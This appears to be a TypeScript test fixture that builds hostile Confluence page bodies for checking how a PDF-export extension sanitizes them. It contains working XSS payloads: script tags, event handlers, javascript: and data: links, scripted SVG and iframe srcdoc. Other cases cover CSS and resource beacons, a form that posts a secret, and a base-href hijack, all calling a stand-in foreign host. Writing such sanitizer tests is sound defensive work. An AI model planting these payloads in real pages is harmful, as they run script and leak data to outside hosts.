// The hostile-page corpus: raw HTML bodies (not the content DSL: hostile markup cannot be
// expressed in it) that routes.ts serves inside the normal DC chrome (`#main-content.wiki-content`),
// the Cloud chrome (`.ak-renderer-document`) and as REST `export_view` bodies. "Foreign" URLs point
// at a host outside the sample Confluence: a loopback address (127.0.0.2, see foreign.ts) or an
// unresolvable `.invalid` host — never a real external address.

/** What every hostile script tries to set in whatever world it runs in. */
export const CANARY = '__offprintPwned';

/** Where a hostile body is being served, for the URLs written into it. */
export interface BodyContext {
  /** Origin of the foreign (tracking) host, e.g. `http://127.0.0.2:40123`. */
  foreign: string;
  /** Path prefix of the site's own URLs: '' on Data Center, '/wiki' on Cloud. */
  prefix: string;
}

export interface HostileCase {
  /** Page id on both sites (9001…). */
  id: number;
  /** URL slug and short name. */
  slug: string;
  title: string;
  /** What the case attacks, for the test report. */
  attack: string;
  body(c: BodyContext): string;
  /** A sentence that must reach the PDF when the export succeeds (none for empty bodies). */
  marker?: string;
  /** How the export through the extension must end: exactly these warnings, or this refusal. */
  expected: HostileOutcome;
}

/**
 * A warning as the export reports it. `{foreign}` in a message stands for the foreign host
 * (`127.0.0.2:<port>`, see foreign.ts).
 */
export interface ExpectedWarning {
  kind: string;
  message: string;
  /** Given on this site only. */
  site?: 'dc' | 'cloud';
}

export type HostileOutcome = { exported: ExpectedWarning[] } | { refused: string };

const imageNotIncluded = (what: string, site?: 'dc' | 'cloud'): ExpectedWarning => ({
  kind: 'image-failed',
  message: `Image not included: ${what}`,
  ...(site ? { site } : {}),
});

/** The unresolvable host used next to the loopback one. */
export const INVALID_HOST = 'beacon.offprint.invalid';

const marker = (slug: string): string => `Hostile page ${slug}: this sentence reaches the PDF.`;
const p = (text: string): string => `<p>${text}</p>`;

/** A script that sets the canary and phones home, as every hostile script in the corpus does. */
const pwn = (c: BodyContext, tag: string): string =>
  `globalThis.${CANARY}=true;try{fetch('${c.foreign}/beacon?${tag}').catch(function(){})}catch(e){}`;

const CASES: Omit<HostileCase, 'marker'>[] = [
  {
    id: 9001,
    slug: 'scripts',
    title: 'Hostile: scripts',
    attack: '<script> setting a canary global and fetching a foreign origin',
    expected: { exported: [] },
    body: (c) =>
      [
        p('Before the scripts.'),
        `<script>${pwn(c, 'inline-script')}</script>`,
        `<script type="module">${pwn(c, 'module-script')}</script>`,
        `<script src="${c.foreign}/beacon.js?external-script"></script>`,
        `<script src="http://${INVALID_HOST}/beacon.js"></script>`,
        `<noscript><img src="${c.foreign}/beacon?noscript"></noscript>`,
        `<div data-macro-name="html" class="conf-macro output-block"><script>${pwn(c, 'html-macro')}</script><p>Inside an HTML macro.</p></div>`,
      ].join('\n'),
  },
  {
    id: 9002,
    slug: 'event-handlers',
    title: 'Hostile: event handlers',
    attack: 'onerror / onload / onmouseover / ontoggle / onfocus handlers',
    expected: { exported: [imageNotIncluded('missing.png (HTTP 404)')] },
    body: (c) =>
      [
        `<p onmouseover="${pwn(c, 'onmouseover')}">Hover text with a handler.</p>`,
        `<img src="${c.prefix}/hostile-assets/missing.png" onerror="${pwn(c, 'img-onerror')}" alt="broken with onerror">`,
        `<svg width="10" height="10" onload="${pwn(c, 'svg-onload')}"><rect width="10" height="10"/></svg>`,
        `<details open ontoggle="${pwn(c, 'ontoggle')}"><summary>Details</summary><p>Toggled body.</p></details>`,
        `<input autofocus onfocus="${pwn(c, 'onfocus')}" value="focus me">`,
        `<body onload="${pwn(c, 'nested-body-onload')}"><p>A nested body tag.</p></body>`,
        `<a href="#" onclick="${pwn(c, 'onclick')}">Click handler link</a>`,
      ].join('\n'),
  },
  {
    id: 9003,
    slug: 'links',
    title: 'Hostile: dangerous links',
    attack: 'javascript:, data:, vbscript: links (obfuscated too) and a tracking ping',
    expected: { exported: [] },
    body: (c) =>
      [
        `<p><a href="javascript:${encodeURIComponent(pwn(c, 'js-link'))}">javascript link</a></p>`,
        `<p><a href=" JaVa&#x09;ScRiPt:alert(1)">obfuscated javascript link</a></p>`,
        `<p><a href="&#106;avascript:alert(1)">entity javascript link</a></p>`,
        `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a></p>`,
        `<p><a href="vbscript:msgbox(1)">vbscript link</a></p>`,
        `<p><a href="https://docs.offprint.invalid/pinged" ping="${c.foreign}/beacon?ping">Link with a tracking ping</a></p>`,
        `<p><a href="https://docs.offprint.invalid/safe">A safe https link</a></p>`,
        `<p><a href="mailto:someone@example.invalid">A mail link</a></p>`,
      ].join('\n'),
  },
  {
    id: 9004,
    slug: 'svg',
    title: 'Hostile: SVG',
    attack:
      'inline SVG with <script> and <foreignObject>; SVG images (file and data:) with scripts',
    expected: { exported: [] },
    body: (c) =>
      [
        `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><script>${pwn(c, 'inline-svg-script')}</script><foreignObject width="120" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${c.foreign}/beacon?foreign-object"></iframe></foreignObject><image href="${c.foreign}/beacon.png?svg-image" width="10" height="10"/><text x="5" y="20">inline svg</text></svg>`,
        `<p><img class="confluence-embedded-image" src="${c.prefix}/hostile-assets/evil.svg" alt="evil svg file"></p>`,
        `<p><img src="data:image/svg+xml,${encodeURIComponent(evilSvg(c))}" alt="evil svg data url"></p>`,
      ].join('\n'),
  },
  {
    id: 9005,
    slug: 'frames',
    title: 'Hostile: frames and plugins',
    attack: '<iframe> (foreign src, srcdoc with script), <object>, <embed>',
    expected: { exported: [] },
    body: (c) =>
      [
        `<iframe src="${c.foreign}/beacon?iframe" width="100" height="50"></iframe>`,
        `<iframe srcdoc="&lt;script&gt;${pwn(c, 'srcdoc').replace(/'/g, '&#39;')}&lt;/script&gt;&lt;p&gt;srcdoc text&lt;/p&gt;"></iframe>`,
        `<iframe src="javascript:'<script>parent.${CANARY}=true</script>'"></iframe>`,
        `<object data="${c.foreign}/beacon?object" type="text/html"></object>`,
        `<embed src="${c.foreign}/beacon?embed" type="image/png">`,
      ].join('\n'),
  },
  {
    id: 9006,
    slug: 'css-beacons',
    title: 'Hostile: CSS and resource beacons',
    attack:
      'CSS url() / @import / @font-face, <link>, srcset, <picture>, poster, background beacons',
    expected: {
      exported: [
        imageNotIncluded(
          'beacon.png (hosted on {foreign}, outside this Confluence site; not fetched)',
        ),
        imageNotIncluded(
          `beacon.png (hosted on ${INVALID_HOST}, outside this Confluence site; not fetched)`,
        ),
      ],
    },
    body: (c) =>
      [
        `<style>@import url("${c.foreign}/beacon.css?import"); .hostile-bg{background-image:url("${c.foreign}/beacon.png?css-class")} @font-face{font-family:Evil;src:url("${c.foreign}/beacon.woff?font-face")} .hostile-font{font-family:Evil}</style>`,
        `<link rel="stylesheet" href="${c.foreign}/beacon.css?link">`,
        `<link rel="prefetch" href="http://${INVALID_HOST}/beacon?prefetch">`,
        `<div style="background:url('${c.foreign}/beacon.png?inline-style')"><p class="hostile-bg hostile-font">Styled paragraph.</p></div>`,
        `<p><img src="${c.prefix}/hostile-assets/ok.png" srcset="${c.foreign}/beacon.png?srcset 2x" alt="srcset"></p>`,
        `<picture><source srcset="${c.foreign}/beacon.png?picture"><img src="${c.prefix}/hostile-assets/ok.png" alt="picture"></picture>`,
        `<video poster="${c.foreign}/beacon.png?poster" width="20" height="20"></video>`,
        `<table background="${c.foreign}/beacon.png?table-background"><tr><td>Cell with a background attribute</td></tr></table>`,
        `<p><img src="${c.foreign}/beacon.png?foreign-img" alt="foreign image"></p>`,
        `<p><img src="http://${INVALID_HOST}/beacon.png?invalid-img" alt="unresolvable image"></p>`,
      ].join('\n'),
  },
  {
    id: 9007,
    slug: 'forms',
    title: 'Hostile: forms',
    attack: 'form actions, formaction=javascript:, input type=image to a foreign host',
    expected: { exported: [] },
    body: (c) =>
      [
        `<form action="${c.foreign}/collect" method="post"><input name="secret" value="s3cret"><button type="submit">Send</button><button formaction="javascript:${encodeURIComponent(pwn(c, 'formaction'))}">Do it</button><input type="image" src="${c.foreign}/beacon.png?input-image" alt="submit image"></form>`,
        `<form action="javascript:${encodeURIComponent(pwn(c, 'form-action'))}"><textarea>form text</textarea></form>`,
      ].join('\n'),
  },
  {
    id: 9008,
    slug: 'base-href',
    title: 'Hostile: base href',
    attack: '<base href> to a foreign host, so relative links and images would point there',
    expected: {
      exported: [
        // On Cloud relative.png resolves under the page (/wiki/spaces/DOC/pages/9008/), whose
        // route answers the page itself, not a 404.
        imageNotIncluded('relative.png (HTTP 404)', 'dc'),
        imageNotIncluded('relative.png (not a readable image)', 'cloud'),
        imageNotIncluded('relative-media.png (HTTP 404)'),
      ],
    },
    body: (c) =>
      [
        `<base href="${c.foreign}/based/">`,
        `<p><a href="relative/page.html">A relative link</a> and <a href="${c.prefix}/display/DOC/Home">a root-relative link</a>.</p>`,
        `<p><img src="relative.png" alt="relative image"></p>`,
        `<div data-node-type="media" data-type="file"><img src="file/relative-media.png" alt="relative media"></div>`,
      ].join('\n'),
  },
  {
    id: 9009,
    slug: 'media-origin-spoof',
    title: 'Hostile: spoofed media origin',
    attack: 'a Cloud media node whose image lives on a foreign host',
    expected: {
      exported: [
        imageNotIncluded('image (hosted on {foreign}, outside this Confluence site; not fetched)'),
      ],
    },
    body: (c) =>
      [
        `<div class="mediaSingleView-content-wrap" data-node-type="mediaSingle"><div data-node-type="media" data-type="file" data-file-mime-type="image/png"><img src="${c.foreign}/file/0b7a4a2a-0000-4000-8000-000000000000/image?token=x&amp;client=y&amp;collection=contentId-9009" alt="spoofed media"></div></div>`,
      ].join('\n'),
  },
  {
    id: 9010,
    slug: 'deep-nesting',
    title: 'Hostile: deep nesting',
    attack: '10,000-deep nesting: parsed markup, and DOM built by script past the parser limit',
    expected: {
      exported: [{ kind: 'too-deep', message: 'Content nested too deeply was kept as plain text' }],
    },
    body: () =>
      [
        `${'<div>'.repeat(10_000)}Bottom of the parsed nesting.${'</div>'.repeat(10_000)}`,
        `${'<blockquote>'.repeat(600)}Bottom of the quotes.${'</blockquote>'.repeat(600)}`,
        `${'<ul><li>'.repeat(600)}Bottom of the lists.${'</li></ul>'.repeat(600)}`,
        `${'<table><tr><td>'.repeat(200)}Bottom of the tables.${'</td></tr></table>'.repeat(200)}`,
        // Hidden: Chromium's own layout crashes the tab on a 10,000-deep rendered tree; the reader
        // reads hidden markup all the same.
        `<div id="hostile-deep-dom" style="display:none"></div>`,
        // The HTML parser caps depth (512 in Chromium); the DOM API does not.
        `<script>(function(){var kinds=['div','span','ul','blockquote'];var host=document.getElementById('hostile-deep-dom');kinds.forEach(function(k){var n=host;for(var i=0;i<10000;i++){var d=document.createElement(k==='ul'&&i%2?'li':k==='ul'?'ul':k);n.appendChild(d);n=d;}n.appendChild(document.createTextNode('Bottom of the scripted '+k+' nesting.'));});})();</script>`,
      ].join('\n'),
  },
  {
    id: 9011,
    slug: 'huge-text-node',
    title: 'Hostile: 5 MB text node',
    attack: 'a single 5 MB text node',
    expected: { exported: [] },
    body: () => `<p>${hugeText(5 * 1024 * 1024)}</p>`,
  },
  {
    id: 9012,
    slug: 'images',
    title: 'Hostile: bad images',
    attack: 'broken, zero-byte, truncated PNG, 50-megapixel PNG, TIFF, random bytes, bad data: URL',
    expected: {
      exported: [
        imageNotIncluded('missing.png (HTTP 404)'),
        imageNotIncluded('zero-byte.png (empty file)'),
        imageNotIncluded('truncated.png (not a readable image)'),
        imageNotIncluded('scan.tiff (not a readable image)'),
        imageNotIncluded('random.png (not a readable image)'),
        imageNotIncluded('random.bin (not a readable image)'),
        imageNotIncluded('png;base64,!!!not-base64!!! (Failed to fetch)'),
        imageNotIncluded('png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB (not a readable image)'),
      ],
    },
    body: (c) =>
      [
        'missing.png',
        'zero-byte.png',
        'truncated.png',
        '50-megapixel.png',
        'scan.tiff',
        'random.png',
        'random.bin',
        'ok.png',
      ]
        .map(
          (f) =>
            `<p><img class="confluence-embedded-image" src="${c.prefix}/hostile-assets/${f}" data-image-src="${c.prefix}/hostile-assets/${f}" alt="image ${f}"></p>`,
        )
        .concat([
          `<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB" alt="truncated data url"></p>`,
          `<p><img src="data:image/png;base64,!!!not-base64!!!" alt="bad data url"></p>`,
          `<p><img src="" alt="empty src"><img alt="no src"></p>`,
        ])
        .join('\n'),
  },
  {
    id: 9013,
    slug: 'malformed-tables',
    title: 'Hostile: malformed tables',
    attack: 'ragged rows, rowspan past the end, colspan 0 / 1000 / negative, empty tables',
    expected: { exported: [] },
    body: () =>
      [
        `<div class="table-wrap"><table class="confluenceTable"><tbody>`,
        `<tr><th class="confluenceTh">A</th><th class="confluenceTh">B</th><th class="confluenceTh">C</th></tr>`,
        `<tr><td class="confluenceTd">short row</td></tr>`,
        `<tr><td>1</td><td>2</td><td>3</td><td>4</td><td>5</td><td>6</td></tr>`,
        `<tr><td rowspan="50">rowspan past the end</td><td colspan="0">colspan zero</td></tr>`,
        `<tr><td colspan="1000">colspan 1000</td></tr>`,
        `<tr><td colspan="-3" rowspan="-1">negative spans</td><td rowspan="abc" colspan="2.5">nonsense spans</td></tr>`,
        `<tr></tr>`,
        `</tbody></table></div>`,
        `<table></table>`,
        `<table><tr></tr><tr><td></td></tr></table>`,
        `<table><caption>Only a caption</caption></table>`,
        `<table><thead><tr><th colspan="99999">huge header span</th></tr></thead><tbody><tr><td>x</td></tr></tbody></table>`,
        `<table><tr><td rowspan="3" colspan="3">big</td></tr><tr><td>overlap</td><td>overlap</td><td>overlap</td><td>overlap</td></tr></table>`,
        `<table><colgroup><col style="width:-50px"><col style="width:99999px"></colgroup><tr><td>neg width</td><td>huge width</td></tr></table>`,
      ].join('\n'),
  },
  {
    id: 9014,
    slug: 'empty',
    title: 'Hostile: empty page',
    attack: 'a page with an empty body',
    expected: { exported: [] },
    body: () => '',
  },
  {
    id: 9015,
    slug: 'macros-only',
    title: 'Hostile: only macros',
    attack: 'a page made only of macros, most with no visible content',
    expected: {
      exported: ['gliffy', 'roadmap', 'jira', 'com.example:macro'].map((name) => ({
        kind: 'unhandled-macro',
        message: `unhandled macro ${name}`,
      })),
    },
    body: () =>
      [
        `<div class="conf-macro output-block" data-macro-name="gliffy" data-hasbody="false"></div>`,
        `<div class="conf-macro output-block" data-macro-name="roadmap" data-hasbody="false"><span class="roadmap-placeholder"></span></div>`,
        `<span class="conf-macro output-inline" data-macro-name="jira" data-hasbody="false"></span>`,
        `<div class="extension-container" data-node-type="extension" data-extension-key="com.example:macro" data-extension-type="com.atlassian.confluence.macro.core"></div>`,
        `<div class="conf-macro output-block" data-macro-name="toc"></div>`,
        `<div class="conf-macro output-block" data-macro-name="children"></div>`,
      ].join('\n'),
  },
  {
    id: 9016,
    slug: 'twenty-mb',
    title: 'Hostile: 20 MB page',
    attack:
      'a 20 MB body: 2,000 paragraphs, each bloated with ~10 KB of attributes and hidden markup',
    expected: { exported: [] },
    body: () => twentyMb(),
  },
];

/** The corpus, each case with its marker sentence appended (except the empty-ish ones). */
export const HOSTILE_CASES: HostileCase[] = CASES.map((c) => {
  if (c.slug === 'empty' || c.slug === 'macros-only') return c;
  const m = marker(c.slug);
  return { ...c, marker: m, body: (ctx: BodyContext) => `${c.body(ctx)}\n${p(m)}` };
});

export const hostileCaseById = (id: number): HostileCase | undefined =>
  HOSTILE_CASES.find((c) => c.id === id);
export const hostileCaseBySlug = (slug: string): HostileCase | undefined =>
  HOSTILE_CASES.find((c) => c.slug === slug);

/** An SVG document with a script, an event handler, a foreignObject and foreign references. */
export function evilSvg(c: BodyContext): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" viewBox="0 0 120 60" onload="${pwn(c, 'svg-file-onload')}"><script>${pwn(c, 'svg-file-script')}</script><style>@import url("${c.foreign}/beacon.css?svg-style");</style><rect width="120" height="60" fill="#deebff"/><image xlink:href="${c.foreign}/beacon.png?svg-file-image" width="10" height="10"/><use href="${c.foreign}/sprite.svg#x"/><foreignObject width="100" height="30"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="${c.foreign}/beacon?svg-file-iframe"></iframe></div></foreignObject><text x="10" y="40">evil svg</text></svg>`;
}

let hugeTextCache: string | undefined;
/** About `bytes` of plain words in one string (a single text node once parsed). */
function hugeText(bytes: number): string {
  if (hugeTextCache) return hugeTextCache;
  const words = ['lorem', 'ipsum', 'dolor', 'sit', 'amet', 'consectetur', 'adipiscing', 'elit'];
  const parts: string[] = [];
  let n = 0;
  for (let i = 0; n < bytes; i++) {
    const w = words[i % words.length] ?? 'x';
    parts.push(w);
    n += w.length + 1;
  }
  hugeTextCache = parts.join(' ');
  return hugeTextCache;
}

let twentyCache: string | undefined;
function twentyMb(): string {
  if (twentyCache) return twentyCache;
  const bloat = 'x'.repeat(9_000);
  const parts: string[] = [];
  for (let i = 0; i < 2_000; i++) {
    parts.push(
      `<p data-bloat="${bloat}" style="margin:0"><span style="display:none" data-more="${'y'.repeat(900)}"></span>Paragraph ${i + 1} of the twenty megabyte page, with a little visible text.</p>`,
    );
  }
  twentyCache = parts.join('\n');
  return twentyCache;
}
